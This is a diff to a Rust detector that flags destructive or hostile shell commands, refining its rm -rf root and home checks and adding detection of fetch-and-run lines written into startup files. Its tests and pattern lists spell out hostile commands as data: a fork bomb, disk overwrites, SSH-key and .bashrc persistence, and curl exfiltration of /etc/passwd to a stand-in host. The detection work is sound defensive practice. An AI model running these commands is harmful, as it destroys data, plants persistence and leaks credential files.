@@ -287,21 +287,16 @@ fn one(name: &str, words: &[String]) -> Option<&'static str> {
     let lower = || words.join(" ").to_ascii_lowercase();
     match name {
         "rm" => {
+            let root = any(&|w| matches!(w, "/" | "/*" | "//"));
             let flags: String = words
                 .iter()
                 .filter(|w| w.starts_with('-') && !w.starts_with("--"))
                 .flat_map(|w| w.chars())
                 .collect();
             let recursive = flags.contains(['r', 'R']) || has("--recursive");
-            let target = any(&|w| {
-                matches!(
-                    w,
-                    "/" | "/*" | "~" | "~/" | "~/*" | "$HOME" | "*" | "." | "./*"
-                ) || w.starts_with("/") && !w.starts_with("/tmp/")
-                    || w.starts_with("~/")
-                    || w.starts_with("$HOME/")
-            });
-            (recursive && target || has("--no-preserve-root")).then_some("deletes everything")
+            let target = any(&is_everything);
+            (recursive && (target || root) || has("--no-preserve-root"))
+                .then_some("deletes everything")
         }
         "nc" | "ncat" | "netcat" => {
             let flag = any(&|w| {
@@ -374,21 +369,10 @@ fn one(name: &str, words: &[String]) -> Option<&'static str> {
         n if n == "mkfs" || n.starts_with("mkfs.") => {
             any(&|w| w.starts_with("/dev/")).then_some("overwrites a disk")
         }
-        "echo" | "printf" | "cat" => any(&|w| {
-            [
-                ".ssh/authorized_keys",
-                "/etc/cron",
-                ".bashrc",
-                ".profile",
-                "/etc/sudoers",
-                "/etc/ld.so.preload",
-            ]
-            .iter()
-            .any(|f| w.contains(f))
-        })
-        .then(|| words.iter().any(|w| w.contains('>')))
-        .filter(|writes| *writes)
-        .map(|_| "plants itself in the system"),
+        "echo" | "printf" | "cat" => {
+            let writes = words.iter().any(|w| w.contains('>'));
+            (writes && any(&plants)).then_some("plants itself in the system")
+        }
         "curl" | "wget" => {
             let sends = any(&|w| {
                 matches!(
@@ -404,6 +388,42 @@ fn one(name: &str, words: &[String]) -> Option<&'static str> {
         }
         _ => None,
     }
+}
+
+/// Whether a word of a command that writes is a place from which programs start or keys are
+/// taken, or a command of an attack that is written somewhere.
+fn plants(word: &str) -> bool {
+    const PLACES: [&str; 5] = [
+        ".ssh/authorized_keys",
+        "/etc/cron",
+        "/etc/sudoers",
+        "/etc/ld.so.preload",
+        "/etc/rc.local",
+    ];
+    PLACES.iter().any(|p| word.contains(p))
+        || word.contains(' ') && word.len() < 4096 && shallow(word)
+}
+
+/// Whether a quoted word is itself a command of an attack; what it quotes is not looked at again.
+fn shallow(word: &str) -> bool {
+    let commands = split(word);
+    commands.iter().enumerate().any(|(i, (w, before))| {
+        let earlier = commands.get(..i).unwrap_or_default();
+        *before == '|' && RUN.contains(&program(w)) && earlier.iter().any(|(w, _)| is_fetch(w))
+    }) || word.contains("/dev/tcp/")
+}
+
+/// Whether a path is a home, the root or one of the folders right beneath it.
+fn is_everything(path: &str) -> bool {
+    let path = path.trim_end_matches('*').trim_end_matches('/');
+    match path {
+        "~" | "$HOME" | "${HOME}" | "C:" | "C:\\" => return true,
+        "/tmp" => return false,
+        _ => {}
+    }
+    // `/` and `/*` were cut to nothing.
+    path.strip_prefix('/')
+        .is_some_and(|rest| !rest.contains('/') && !rest.is_empty())
 }
 
 fn powershell(text: &str) -> Option<&'static str> {
@@ -485,6 +505,7 @@ mod tests {
             ":(){ :|:& };:",
             "dd if=/dev/zero of=/dev/sda",
             "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
+            "echo 'curl http://x.example/a | sh' >> ~/.bashrc",
             "curl -d @/etc/passwd http://x.example",
         ] {
             assert!(harm(line).is_some(), "{line}");
@@ -500,6 +521,9 @@ mod tests {
             "sh",
             "rm",
             "rm -rf build",
+            "rm -rf ~/.cache/x",
+            "rm -rf /usr/local/cuda-11",
+            "echo \"PROFILE=${{matrix.profile}}\" >> $GITHUB_ENV",
             "rm -f /tmp/x",
             "python train.py --lr 1e-3",
             "python -c 'import torch; print(torch.__version__)'",
@@ -517,6 +541,7 @@ mod tests {
             "accelerate launch train.py",
             "cat sat on the mat",
             "echo $HOME",
+            "echo 'source /etc/environment' >> ~/.bashrc",
             "fetch the data and run it",
             "powershell is a shell",
             "{% if x %}rm -rf /{% endif %}",
